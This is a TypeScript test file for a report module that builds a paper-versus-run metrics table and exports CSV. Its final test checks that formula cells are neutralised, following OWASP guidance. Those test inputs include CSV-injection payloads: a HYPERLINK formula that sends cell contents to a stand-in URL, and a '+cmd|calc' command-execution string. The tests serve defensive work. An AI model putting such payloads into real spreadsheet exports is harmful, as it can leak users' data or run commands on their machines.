import { test } from 'node:test';
import assert from 'node:assert/strict';
import { paperTable, PAPER_TABLE_FORMAT } from '../../src/report/paper-table';
import { PAPER, PAPER_F1_FROM_PR } from '../../src/report/paper';
import { toCsv } from '../../src/report/csv';
import type { RunResult } from '../../src/evaluate/run-result';

function fakeResult(bayes: boolean): RunResult {
  return {
    metrics: { precision: 0.5, recall: 0.25, f1: 1 / 3, accuracy: 0.9, kappa: 0, confusion: { tp: 1, fp: 1, tn: 5, fn: 3 } },
    bayes: bayes ? { precision: 0.6, recall: 0.5, f1: 0.545, accuracy: 0.95, kappa: 0 } : null,
    baselines: { majority: { f1: 0, accuracy: 0.8 }, noChange: { f1: 0.2, accuracy: 0.7 } },
    timing: { trainMsPerBatchP50: 1.234, trainMsPerBatchP95: 20, batches: 3, eventsPerSec: 1000, wallMs: 10 },
  } as unknown as RunResult;
}

test("paper's numbers are the published ones", () => {
  assert.deepEqual([PAPER.precision, PAPER.recall, PAPER.f1, PAPER.accuracy], [0.8, 0.72, 0.68, 0.7]);
  assert.equal(PAPER.trainTime, '< 1 s per batch');
  assert.ok(Math.abs(PAPER_F1_FROM_PR - 0.7579) < 1e-3);
});

test('paper table rows: paper, this run, Bayes ceiling, baselines', () => {
  const rows = paperTable(fakeResult(true));
  assert.deepEqual(rows.map((r) => r.metric), ['precision', 'recall', 'F1', 'accuracy', 'training time per batch']);
  assert.equal(rows[2].paper, 0.68);
  assert.equal(rows[2].thisRun, 1 / 3);
  assert.equal(rows[2].bayesCeiling, 0.545);
  assert.equal(rows[3].majorityBaseline, 0.8);
  assert.equal(rows[3].noChangeBaseline, 0.7);
  assert.equal(rows[4].paper, '< 1 s per batch');
  assert.match(String(rows[4].thisRun), /^1\.23 ms \(median; p95 20 ms\)$/);
  assert.equal(PAPER_TABLE_FORMAT.paper(0.7), '0.70');
  assert.equal(PAPER_TABLE_FORMAT.bayesCeiling(null), '—');
  assert.equal(paperTable(fakeResult(false))[0].bayesCeiling, null);
});

test('CSV quotes what needs quoting and keeps full precision', () => {
  const csv = toCsv([{ a: 'x,y', b: 'say "hi"', c: 1 / 3, d: null }, { a: 'line\nbreak', b: '', c: NaN, d: 2 }]);
  assert.equal(csv, 'a,b,c,d\r\n"x,y","say ""hi""",0.3333333333333333,\r\n"line\nbreak",,,2\r\n');
});

test('toCsvTable defuses formula cells (OWASP: leading quote, quoted) and leaves numbers as numbers', () => {
  const csv = toCsv([
    { a: '=HYPERLINK("http://x/?"&A1,"click")', b: '+1+cmd|calc', c: '-2+3', d: '@SUM(A1)' },
    { a: -1.5, b: '-1.5', c: '\t=1', d: ' =1' },
    { a: 'plain', b: 'a=b', c: '+3', d: '2e-4' },
  ]);
  const lines = csv.split('\r\n');
  assert.equal(lines[1], `"'=HYPERLINK(""http://x/?""&A1,""click"")","'+1+cmd|calc","'-2+3","'@SUM(A1)"`);
  assert.equal(lines[2], `-1.5,-1.5,"'\t=1","' =1"`);
  assert.equal(lines[3], 'plain,a=b,+3,2e-4');
});
